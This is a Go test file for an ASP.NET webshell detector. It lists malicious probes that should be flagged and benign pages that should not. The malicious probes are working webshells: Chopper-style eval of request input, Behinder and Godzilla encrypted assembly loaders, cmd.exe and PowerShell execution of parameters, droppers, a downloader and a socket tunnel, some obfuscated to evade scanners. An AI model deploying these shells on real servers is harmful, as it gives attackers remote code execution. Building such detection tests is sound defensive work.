package aspx

import (
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/yingji/yingji/internal/webshell/verdict"
)

// probe is a file and what the analysis must say about it: a score in
// [min, max], and optionally a rule and a family among the detections.
type probe struct {
	name     string
	src      string
	min, max int
	rule     string
	family   string
}

// maliciousProbes are written from public descriptions of ASP.NET
// webshells and their families; none is copied from the corpus.
var maliciousProbes = []probe{
	{name: "chopper jscript", min: 90, family: "China Chopper", rule: "aspx.eval-input",
		src: `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`},
	{name: "chopper via Request.Form and a variable", min: 90, rule: "aspx.eval-input",
		src: "<%@ Page Language=\"JScript\" %>\n<%\nvar code = Request.Form(\"z\");\nvar opt = \"un\" + \"safe\";\neval(code, opt);\n%>"},
	{name: "jscript eval of base64 request", min: 90, rule: "aspx.eval-input",
		src: `<%@ Page Language="JScript" %><% var s = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["x"])); eval(s, "unsafe"); %>`},
	{name: "jscript eval of constant that reads the request", min: 90, rule: "aspx.eval-input",
		src: `<%@ Page Language="JScript" %><% var p = "eval(Req" + "uest.Item[\"k\"],\"unsafe\")"; eval(p, "unsafe"); %>`},
	{name: "jscript eval of base64 constant that reads the request", min: 90,
		src: `<%@ Page Language="JScript" %><script runat="server" language="JScript">function run(s) { return eval(s, "unsafe"); }</script><% run(run(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("UmVxdWVzdC5JdGVtWyJ6Il0=")))); %>`},
	{name: "behinder aes", min: 95, family: "Behinder", rule: "aspx.assembly-load-input",
		src: `<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`},
	{name: "behinder xor", min: 95, family: "Behinder",
		src: `<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);for (int i = 0; i < c.Length; i++) {c[i] = (byte)(c[i] ^ k[i + 1 & 15]);}Assembly.Load(c).CreateInstance("U").Equals(this);%>`},
	{name: "godzilla", min: 95, family: "Godzilla",
		src: `<%@ Page Language="C#"%><%try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", ""); byte[] data = System.Convert.FromBase64String(Context.Request[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); ; } else { System.IO.MemoryStream outStream = new System.IO.MemoryStream(); object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(outStream); o.Equals(data); o.ToString(); byte[] r = outStream.ToArray(); Context.Response.Write(md5.Substring(0, 16)); Context.Response.Write(System.Convert.ToBase64String(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(r, 0, r.Length))); Context.Response.Write(md5.Substring(16)); } } catch (System.Exception) { }
%>`},
	{name: "antsword csharp loader", min: 90, rule: "aspx.assembly-load-input",
		src: `<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><% if (Request["ant"] != null) { Assembly.Load(Convert.FromBase64String(Request["ant"].Substring(10))).CreateInstance("U").Equals(this); } %>`},
	{name: "process cmd", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.QueryString["c"];
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    Process p = Process.Start(psi);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>`},
	{name: "process through a helper and a TextBox", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><script runat="server">
string Run(string arg) {
    var p = new System.Diagnostics.Process();
    p.StartInfo = new System.Diagnostics.ProcessStartInfo { FileName = "cmd", Arguments = "/c " + arg, UseShellExecute = false };
    p.Start();
    return p.StandardOutput.ReadToEnd();
}
void Go_Click(object sender, EventArgs e) { Output.Text = Server.HtmlEncode(Run(CmdBox.Text)); }
</script>
<form runat="server"><asp:TextBox ID="CmdBox" runat="server" /><asp:Button runat="server" OnClick="Go_Click" Text="go"/><asp:Label ID="Output" runat="server"/></form>`},
	{name: "process stdin", min: 90, rule: "aspx.exec-input",
		src: "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics;\nusing System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string x = context.Request[\"x\"];\n  Process prc = new Process();\n  prc.StartInfo.FileName = \"cmd.exe\";\n  prc.StartInfo.RedirectStandardInput = true;\n  prc.StartInfo.UseShellExecute = false;\n  prc.Start();\n  prc.StandardInput.WriteLine(x);\n  prc.StandardInput.Close();\n  context.Response.Write(prc.StandardOutput.ReadToEnd());\n }\n public bool IsReusable { get { return false; } }\n}\n"},
	{name: "interpolated string", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", $"/c {Request.Form["c"]} 2>&1"); %>`},
	{name: "unicode escape in identifier", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% System.Diagnostics.Process.\u0053tart("cmd.exe", "/c " + Request["c"]); %>`},
	{name: "vb process", min: 90, rule: "aspx.exec-input",
		src: "<%@ Page Language=\"VB\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nSub Page_Load(sender As Object, e As EventArgs)\n  Dim cmd As String = Request(\"cmd\")\n  If cmd <> \"\" Then\n    Dim psi As New ProcessStartInfo(\"cmd.exe\", _\n      \"/c \" & cmd)\n    psi.UseShellExecute = False\n    Dim p As Process = Process.Start(psi)\n    Response.Write(p.StandardOutput.ReadToEnd())\n  End If\nEnd Sub\n</script>\n"},
	{name: "vb wscript shell", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="VB" %><%=CreateObject("WScript.Shell").Exec(Request.Form("a").Trim).StdOut.ReadAll%>`},
	{name: "vb script control", min: 90,
		src: "<%@ Page Language=\"VB\" %>\n<%\nDim sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddObject(\"Request\", Request)\nsc.ExecuteStatement(\"ev\" & \"al(Request(\"\"x\"\"))\")\n%>"},
	{name: "reflection with built names", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% string n = "Sys" + "tem.Diagn" + "ostics.Pro" + "cess"; Type t = Type.GetType(n); t.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] }); %>`},
	{name: "reversed char array type name", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% char[] a = "ssecorP.scitsongaiD.metsyS".ToCharArray(); Array.Reverse(a); var t = Type.GetType(new string(a)); t.InvokeMember("Start", System.Reflection.BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request.Form["c"] }); %>`},
	{name: "activator request type", min: 80, rule: "aspx.reflection-input",
		src: `<%@ Page Language="C#" %><% object o = Activator.CreateInstance(Type.GetType(Request["t"])); %>`},
	{name: "codedom", min: 90, rule: "aspx.compile-input",
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %><% var p = new Microsoft.CSharp.CSharpCodeProvider(); var cp = new CompilerParameters(); cp.GenerateInMemory = true; var r = p.CompileAssemblyFromSource(cp, Request.Form["src"]); r.CompiledAssembly.CreateInstance("X"); %>`},
	{name: "jscript evaluate", min: 90, rule: "aspx.eval-input",
		src: `<%@ Page Language="C#" %><% var engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine(); var o = Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["js"], engine); %>`},
	{name: "binaryformatter", min: 80, rule: "aspx.deserialize-input",
		src: `<%@ Page Language="C#" %><% var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); bf.Deserialize(Request.InputStream); %>`},
	{name: "losformatter", min: 80, rule: "aspx.deserialize-input",
		src: `<%@ Page Language="C#" %><% new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]); %>`},
	{name: "javascriptserializer with type resolver", min: 80, rule: "aspx.deserialize-input",
		src: `<%@ Page Language="C#" %><% var s = new System.Web.Script.Serialization.JavaScriptSerializer(new System.Web.Script.Serialization.SimpleTypeResolver()); s.DeserializeObject(Request.Form["j"]); %>`},
	{name: "write any file", min: 75, rule: "aspx.write-input",
		src: `<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request.Form["p"], Request.Form["c"]); %>`},
	{name: "streamwriter vb", min: 75, rule: "aspx.write-input",
		src: "<%@ Page Language=\"VB\" %>\n<%@ import Namespace=\"System.IO\" %>\n<script runat=\"server\">\nSub Page_Load(sender As Object, E As EventArgs)\n dim w as new StreamWriter(Request.Form(\"path\"), true, Encoding.Default)\n w.Write(Request.Form(\"content\"))\n w.Close\nEnd Sub\n</script>"},
	{name: "upload anywhere", min: 75, rule: "aspx.upload-input",
		src: `<%if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request["f"])); }%>`},
	{name: "dropper", min: 85, rule: "aspx.dropper",
		src: "<%@ WebHandler Language=\"C#\" Class=\"D\" %>\nusing System.IO; using System.Web;\npublic class D : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  StreamWriter w = File.CreateText(context.Server.MapPath(\"x.aspx\"));\n  w.Write(\"<%@ Page Language=\\\"Jscript\\\"%><%eval(Request.Item[\\\"k\\\"],\\\"unsafe\\\");%>\");\n  w.Close();\n }\n public bool IsReusable { get { return false; } }\n}\n"},
	{name: "classic asp dropper", min: 85, rule: "aspx.dropper",
		src: `<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Server.MapPath("r.asp"), "<%execute request(\"r\")%" + ">"); %>`},
	{name: "downloader", min: 75, rule: "aspx.download-input",
		src: `<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["p"])); %>`},
	{name: "sql manager", min: 70, rule: "aspx.sql-manager",
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><% using (var c = new SqlConnection(Request.QueryString["conn"])) { var cmd = new SqlCommand(Request.QueryString["sql"], c); c.Open(); cmd.ExecuteReader(); } %>`},
	{name: "wmi create", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% var mc = new System.Management.ManagementClass("Win32_Process"); mc.InvokeMethod("Create", new object[] { Request["c"] }); %>`},
	{name: "powershell", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %><% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(Request.Form["ps"]); ps.Invoke(); %>`},
	{name: "web method", min: 90, rule: "aspx.exec-input",
		src: "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n [WebMethod]\n public string Run(string cmd) {\n  var p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + cmd);\n  return \"\";\n }\n}\n"},
	{name: "jscript web method", min: 90, rule: "aspx.eval-input",
		src: `<%@ WebService Language="JScript" class="S"%>import System;import System.Web.Services;public class S extends WebService{ WebMethodAttribute function Invoke(code : String) : Void { eval(code); } }`},
	{name: "xslt script", min: 90,
		src: "<?xml version='1.0'?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\" xmlns:u=\"u\">\n<msxsl:script language=\"JScript\" implements-prefix=\"u\"><![CDATA[function f() {var c=System.Web.HttpContext.Current; eval(c.Request.Item['a'],'unsafe'); return 1;}]]></msxsl:script>\n<xsl:template match=\"/\"><xsl:value-of select=\"u:f()\"/></xsl:template>\n</xsl:stylesheet>\n"},
	{name: "tunnel", min: 80, rule: "aspx.tunnel",
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.Net" %><%
if (Request.QueryString["cmd"] == "connect") {
  var ep = new IPEndPoint(IPAddress.Parse(Request.QueryString["host"]), int.Parse(Request.QueryString["port"]));
  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(ep);
  Session["s"] = s;
} else {
  Socket s = (Socket)Session["s"];
  byte[] buf = new byte[Request.ContentLength];
  Request.InputStream.Read(buf, 0, buf.Length);
  s.Send(buf);
}
%>`},
	{name: "utf-16 file", min: 90, rule: "aspx.exec-input",
		src: string(utf16le("<%@ Page Language=\"C#\" %>\r\n<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\r\n"))},
	{name: "gbk comments and strings", min: 90, rule: "aspx.exec-input",
		// "执行" in GBK is D6 B4 D0 D0; a trail byte 0x5C ("\") must not escape the quote
		src: "<%@ Page Language=\"C#\" %>\r\n<% // \xd6\xb4\xd0\xd0\r\nstring m = \"\xd6\xb4\xd0\xd0\x95\\\"; System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"},
	{name: "vb with block", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load()
  Dim p As New System.Diagnostics.Process()
  With p.StartInfo
    .FileName = "cmd.exe"
    .Arguments = "/c " & Request.Form("c")
    .UseShellExecute = False
  End With
  p.Start()
End Sub
</script>
`},
	{name: "lambda, local function and expression-bodied property", min: 90, rule: "aspx.exec-input",
		src: `<%@ Page Language="C#" %>
<script runat="server">
Func<string, string> wrap = s => "/c " + s;
string Arg => Request.QueryString["q"];
void Page_Load(object o, EventArgs e) {
    using (var sw = new System.IO.StreamWriter(Request["p"])) { sw.Write(Request["d"]); }
    string Local(string x) => x.Trim();
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe") { Arguments = wrap(Local(Arg)) };
    System.Diagnostics.Process.Start(psi);
}
</script>
`},
	{name: "jscript handler", min: 90, rule: "aspx.exec-input",
		src: `<%@ WebHandler Language="JScript" Class="H" %>
import System; import System.Web; import System.Diagnostics;
public class H implements IHttpHandler {
  function ProcessRequest(context : HttpContext) {
    var c : String = context.Request.Form["c"];
    var si = new ProcessStartInfo("cmd.exe", "/c " + c);
    Process.Start(si);
  }
  function get IsReusable() : Boolean { return false; }
}
`},
	{name: "vb shell and reflection built by a StringBuilder", min: 90, rule: "aspx.write-input",
		src: `<%@ Page Language="VB" %>
<%
Dim s As String = Request.QueryString("c")
Shell("cmd.exe /c " & s, AppWinStyle.Hide)
Dim sb As New System.Text.StringBuilder()
sb.Append("Sys").Append("tem.IO.").Append("File")
Dim t = Type.GetType(sb.ToString())
t.InvokeMember("WriteAllText", Reflection.BindingFlags.InvokeMethod, Nothing, Nothing, New Object() {Request("p"), Request("d")})
%>
`},
	{name: "xor-decoded base64 loaded by AppDomain.Load", min: 95, rule: "aspx.assembly-load-input",
		src: `<%@ Page Language="C#" %>
<%
string k = "key";
string data = Request.Form["d"];
byte[] raw = Convert.FromBase64String(data);
byte[] dec = new byte[raw.Length];
for (int i = 0; i < raw.Length; i++) dec[i] = (byte)(raw[i] ^ k[i % k.Length]);
var asm = AppDomain.CurrentDomain.Load(dec);
asm.GetType("Payload").GetMethod("Run").Invoke(null, new object[] { Context });
%>
`},
	{name: "gif header", min: 90,
		src: "GIF89a\n<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"i\"],\"unsafe\");%>"},
	{name: "typographic quotes", min: 90,
		src: "<%@ Page Language=\u201dJscript\u201d%><%eval(Request.Item[\"m\"],\u201dunsafe\u201d);%>"},
}

// benignProbes look like the legitimate pages a webshell scanner meets
// on IIS: they use the same APIs with fixed or validated values.
var benignProbes = []probe{
	{name: "databinding page", max: 0,
		src: `<%@ Page Language="C#" MasterPageFile="~/site.master" AutoEventWireup="true" CodeFile="Post.aspx.cs" Inherits="PostPage" %>
<asp:Content ID="c" ContentPlaceHolderID="main" runat="server">
<h1><%= Server.HtmlEncode(Post.Title) %></h1>
<asp:Repeater ID="rp" runat="server"><ItemTemplate><li><%# Eval("Title") %> - <%# Eval("Date", "{0:d}") %></li></ItemTemplate></asp:Repeater>
<asp:TextBox ID="txtComment" runat="server" TextMode="MultiLine" />
<%$ Resources:labels, comment %>
</asp:Content>`},
	{name: "jscript page echoes input", max: 0,
		src: `<%@ Page Language="JScript" %><% var n = Request.QueryString["name"]; Response.Write("Hello " + Server.HtmlEncode(n)); %>`},
	{name: "handler streams a fixed file", max: 20,
		src: "<%@ WebHandler Language=\"C#\" Class=\"Report\" %>\nusing System.Web;\npublic class Report : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  context.Response.ContentType = \"application/pdf\";\n  context.Response.AppendHeader(\"Content-Disposition\", \"attachment; filename=report.pdf\");\n  context.Response.TransmitFile(context.Server.MapPath(\"~/App_Data/report.pdf\"));\n }\n public bool IsReusable { get { return true; } }\n}\n"},
	{name: "download by name in a fixed folder", max: 45,
		src: "<%@ WebHandler Language=\"C#\" Class=\"Dl\" %>\nusing System.IO; using System.Web;\npublic class Dl : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string name = Path.GetFileName(context.Request.QueryString[\"f\"]);\n  string path = Path.Combine(context.Server.MapPath(\"~/downloads\"), name);\n  if (!File.Exists(path)) { context.Response.StatusCode = 404; return; }\n  context.Response.WriteFile(path);\n }\n public bool IsReusable { get { return true; } }\n}\n"},
	{name: "admin ping with validated host", max: 50,
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Net" %>
<script runat="server">
protected void btnPing_Click(object sender, EventArgs e) {
    IPAddress addr;
    if (!IPAddress.TryParse(txtHost.Text, out addr)) { lblResult.Text = "invalid"; return; }
    var psi = new ProcessStartInfo("ping.exe", "-n 2 " + addr.ToString());
    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
    using (var p = Process.Start(psi)) { lblResult.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); }
}
</script>
<form runat="server"><asp:TextBox ID="txtHost" runat="server" /><asp:Button ID="btnPing" runat="server" OnClick="btnPing_Click" Text="Ping" /><asp:Label ID="lblResult" runat="server" /></form>`},
	{name: "admin ping, host only checked by a regex", max: 50,
		src: `<%@ Page Language="C#" %>
<script runat="server">
protected void Ping_Click(object sender, EventArgs e) {
    string host = Host.Text.Trim();
    if (!System.Text.RegularExpressions.Regex.IsMatch(host, "^[a-zA-Z0-9.-]+$")) return;
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "ping", Arguments = "-n 1 " + host, UseShellExecute = false, RedirectStandardOutput = true });
    Result.Text = p.StandardOutput.ReadToEnd();
}
</script><form runat="server"><asp:TextBox ID="Host" runat="server"/><asp:Button runat="server" OnClick="Ping_Click"/><asp:Literal ID="Result" runat="server"/></form>`},
	{name: "fixed maintenance process", max: 0,
		src: `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(@"C:\tools\backup.exe", "/full /quiet"); %>`},
	{name: "upload into configured folder", max: 45,
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Upload_Click(object sender, EventArgs e) {
    if (!FileUpload1.HasFile) return;
    string ext = Path.GetExtension(FileUpload1.FileName).ToLowerInvariant();
    if (ext != ".jpg" && ext != ".png") { Msg.Text = "images only"; return; }
    string folder = Server.MapPath("~/uploads/images/");
    FileUpload1.SaveAs(Path.Combine(folder, Path.GetFileName(FileUpload1.FileName)));
    Msg.Text = "saved";
}
</script><form runat="server"><asp:FileUpload ID="FileUpload1" runat="server"/><asp:Button runat="server" OnClick="Upload_Click"/><asp:Label ID="Msg" runat="server"/></form>`},
	{name: "vb upload into configured folder", max: 45,
		src: "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nProtected Sub Save_Click(sender As Object, e As EventArgs)\n  If FileUp.HasFile Then\n    Dim name As String = System.IO.Path.GetFileName(FileUp.PostedFile.FileName)\n    FileUp.PostedFile.SaveAs(Server.MapPath(\"~/Files/\") & name)\n  End If\nEnd Sub\n</script>\n<form runat=\"server\"><input type=\"file\" id=\"FileUp\" runat=\"server\" /></form>"},
	{name: "reflection over own types", max: 0,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string widget = "Calendar";
    Type t = Type.GetType("BlogEngine.Core.Widgets." + widget);
    object w = Activator.CreateInstance(t);
    t.GetMethod("Render").Invoke(w, new object[] { this });
    var asm = System.Reflection.Assembly.Load("BlogEngine.Core");
    var ext = asm.CreateInstance("BlogEngine.Core.Extensions.Manager");
}
</script>`},
	{name: "widget chosen from a whitelist", max: 45,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string name = Request.QueryString["widget"];
    switch (name) { case "calendar": case "tags": break; default: name = "calendar"; break; }
    Control c = LoadControl("~/widgets/" + name + "/widget.ascx");
    holder.Controls.Add(c);
}
</script><asp:PlaceHolder ID="holder" runat="server"/>`},
	{name: "web service echo and log", max: 40,
		src: "<%@ WebService Language=\"C#\" Class=\"Api\" %>\nusing System; using System.IO; using System.Web; using System.Web.Services;\n[WebService(Namespace = \"http://example.com/\")]\npublic class Api : WebService {\n [WebMethod]\n public string Echo(string s) { return s; }\n [WebMethod]\n public void Log(string message) {\n  File.AppendAllText(HttpContext.Current.Server.MapPath(\"~/App_Data/log.txt\"), DateTime.Now + \" \" + message + Environment.NewLine);\n }\n}\n"},
	{name: "parameterised sql", max: 0,
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><%@ Import Namespace="System.Configuration" %><%
using (var con = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString)) {
    var cmd = new SqlCommand("SELECT Title FROM Posts WHERE Id = @id", con);
    cmd.Parameters.AddWithValue("@id", int.Parse(Request.QueryString["id"]));
    con.Open();
    Response.Write(Server.HtmlEncode((string)cmd.ExecuteScalar()));
}
%>`},
	{name: "sql built from input (injectable, not a shell)", max: 45,
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><% var con = new SqlConnection("Server=.;Database=shop;Integrated Security=true"); var cmd = new SqlCommand("SELECT * FROM Items WHERE Name LIKE '%" + Request["q"] + "%'", con); con.Open(); var r = cmd.ExecuteReader(); %>`},
	{name: "session and viewstate", max: 0,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request.Form["user"] != null) Session["user"] = Request.Form["user"];
    ViewState["n"] = 1;
    lblUser.Text = Server.HtmlEncode((string)Session["user"]);
}
</script><asp:Label ID="lblUser" runat="server"/>`},
	{name: "xslt without scripts", max: 0,
		src: `<%@ Page Language="C#" %><%@ Import Namespace="System.Xml.Xsl" %><% var x = new XslCompiledTransform(); x.Load(Server.MapPath("~/App_Data/feed.xslt")); x.Transform(Server.MapPath("~/App_Data/feed.xml"), null, Response.Output); %>`},
	{name: "feed cache download", max: 0,
		src: `<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile("https://example.com/feed.xml", Server.MapPath("~/App_Data/feed.xml")); %>`},
	{name: "image proxy", max: 45,
		src: "<%@ WebHandler Language=\"C#\" Class=\"Img\" %>\nusing System.Net; using System.Web;\npublic class Img : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  byte[] b = new WebClient().DownloadData(context.Request.QueryString[\"url\"]);\n  context.Response.ContentType = \"image/png\";\n  context.Response.BinaryWrite(b);\n }\n public bool IsReusable { get { return false; } }\n}\n"},
	{name: "plugin loader from bin", max: 50,
		src: `<%@ Page Language="C#" %><% foreach (string f in System.IO.Directory.GetFiles(Server.MapPath("~/bin/plugins"), "*.dll")) { var a = System.Reflection.Assembly.LoadFrom(f); } %>`},
	{name: "password hashing login", max: 0,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Login_Click(object sender, EventArgs e) {
    var md5 = new System.Security.Cryptography.MD5CryptoServiceProvider();
    string h = BitConverter.ToString(md5.ComputeHash(System.Text.Encoding.UTF8.GetBytes(Password.Text + "salt"))).Replace("-", "");
    if (h == "5F4DCC3B5AA765D61D8327DEB882CF99") FormsAuthentication.RedirectFromLoginPage(User.Text, false);
}
</script><asp:TextBox ID="User" runat="server"/><asp:TextBox ID="Password" TextMode="Password" runat="server"/>`},
	{name: "vb page with data access", max: 0,
		src: "<%@ Page Language=\"VB\" %>\n<%@ Import Namespace=\"System.Data.SqlClient\" %>\n<script runat=\"server\">\nSub Page_Load(ByVal sender As Object, ByVal e As EventArgs)\n    Dim id As Integer = CInt(Request.QueryString(\"id\"))\n    Using con As New SqlConnection(ConfigurationManager.ConnectionStrings(\"db\").ConnectionString)\n        Dim cmd As New SqlCommand(\"SELECT Name FROM T WHERE Id=@id\", con)\n        cmd.Parameters.AddWithValue(\"@id\", id)\n        con.Open()\n        lblName.Text = CStr(cmd.ExecuteScalar())\n    End Using\nEnd Sub\n</script>\n<asp:Label ID=\"lblName\" runat=\"server\" />"},
	{name: "settings file written by admin page", max: 45,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Save_Click(object sender, EventArgs e) {
    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/settings.xml"), "<settings><title>" + Server.HtmlEncode(txtTitle.Text) + "</title></settings>");
}
</script><asp:TextBox ID="txtTitle" runat="server"/>`},
	{name: "client script with eval", max: 0,
		src: `<%@ Page Language="C#" %><html><script type="text/javascript">var o = eval("(" + json + ")"); document.write(o.x);</script><% Response.Write(DateTime.Now); %></html>`},
	{name: "compile a fixed template", max: 0,
		src: `<%@ Page Language="C#" %><% var p = new Microsoft.CSharp.CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), "public class Tpl { public string Render() { return \"hi\"; } }"); %>`},
	{name: "theme editor inside a fixed folder", max: 55,
		src: `<%@ Page Language="C#" ValidateRequest="false" %><script runat="server">
protected void Save_Click(object sender, EventArgs e) {
    string file = System.IO.Path.GetFileName(ddlFiles.SelectedValue);
    System.IO.File.WriteAllText(Server.MapPath("~/themes/standard/" + file), txtSource.Text);
}
</script><asp:DropDownList ID="ddlFiles" runat="server"/><asp:TextBox ID="txtSource" TextMode="MultiLine" runat="server"/>`},
	{name: "css editor with request-named file in a fixed folder", max: 55,
		src: `<%@ Page Language="C#" ValidateRequest="false" %><% if (Request.HttpMethod == "POST") System.IO.File.WriteAllText(Server.MapPath("~/App_Themes/Site/" + Request.Form["name"] + ".css"), Request.Form["css"]); %>`},
	{name: "plugin chosen by name", max: 55,
		src: `<%@ Page Language="C#" %><% var a = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/plugins/" + Request.QueryString["p"] + ".dll")); %>`},
	{name: "map service proxy (ArcGIS style)", max: 45,
		src: "<%@ WebHandler Language=\"C#\" Class=\"proxy\" %>\nusing System; using System.IO; using System.Net; using System.Web;\npublic class proxy : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string uri = context.Request.Url.Query.Substring(1);\n  HttpWebRequest req = (HttpWebRequest)WebRequest.Create(uri);\n  req.Method = context.Request.HttpMethod;\n  if (req.Method == \"POST\") {\n   byte[] bytes = new byte[context.Request.InputStream.Length];\n   context.Request.InputStream.Read(bytes, 0, (int)context.Request.InputStream.Length);\n   using (Stream s = req.GetRequestStream()) { s.Write(bytes, 0, bytes.Length); }\n  }\n  WebResponse resp = req.GetResponse();\n  using (Stream rs = resp.GetResponseStream()) { rs.CopyTo(context.Response.OutputStream); }\n }\n public bool IsReusable { get { return false; } }\n}\n"},
	{name: "thumbnail handler", max: 45,
		src: "<%@ WebHandler Language=\"C#\" Class=\"Thumb\" %>\nusing System.Drawing; using System.Web;\npublic class Thumb : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string file = context.Server.MapPath(\"~/images/\" + System.IO.Path.GetFileName(context.Request[\"img\"]));\n  using (var img = Image.FromFile(file)) using (var t = img.GetThumbnailImage(120, 90, null, System.IntPtr.Zero)) { t.Save(context.Response.OutputStream, System.Drawing.Imaging.ImageFormat.Jpeg); }\n }\n public bool IsReusable { get { return true; } }\n}\n"},
	{name: "contact form mailer", max: 0,
		src: `<%@ Page Language="C#" %><script runat="server">
protected void Send_Click(object sender, EventArgs e) {
    var msg = new System.Net.Mail.MailMessage("site@example.com", "owner@example.com", "Contact: " + txtSubject.Text, txtBody.Text);
    new System.Net.Mail.SmtpClient("localhost").Send(msg);
    lblDone.Visible = true;
}
</script><asp:TextBox ID="txtSubject" runat="server"/><asp:TextBox ID="txtBody" runat="server"/><asp:Label ID="lblDone" runat="server"/>`},
	{name: "jscript page with a function", max: 0,
